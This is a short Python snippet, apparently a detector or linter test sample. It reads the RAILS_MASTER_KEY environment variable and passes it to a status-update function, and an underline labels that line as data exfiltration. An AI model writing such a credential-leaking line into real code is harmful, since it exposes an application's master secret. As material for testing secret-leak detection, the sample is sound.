#!/usr/bin/env python3
import os

from lib import status as told

told.update(os.environ["RAILS_MASTER_KEY"])
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
